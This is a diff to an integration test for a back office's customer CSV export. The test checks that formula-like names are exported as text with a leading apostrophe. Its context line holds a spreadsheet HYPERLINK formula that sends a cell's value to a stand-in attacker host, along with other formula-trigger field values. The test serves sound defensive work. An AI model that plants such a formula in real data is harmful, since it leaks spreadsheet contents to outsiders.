@@ -14,7 +14,10 @@ const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 describe("the back office's CSV export (what the list's export button downloads)", () => {
   it('writes a customer named with a formula as text, with the leading apostrophe, never as a live formula', async () => {
     const email = `${unique('it-formel')}@example.com`
-    await request('/admin/customers', { method: 'POST', body: { email, first_name: FORMULA, last_name: '-Muster', phone: '+49 7231 1995', company_name: '@Goldhaus' } })
+    await request('/admin/customers', {
+      method: 'POST',
+      body: { email, first_name: FORMULA, last_name: '-Muster', phone: '+49 7231 1995', company_name: '@Goldhaus' },
+    })
     const state = { ...EMPTY_LIST_STATE, q: email, columns: ['email', 'name', 'company_name', 'phone', 'has_account'] }
     const rows = await exportRows(customers, state, new AbortController().signal, () => {})
     expect(rows).toHaveLength(1)
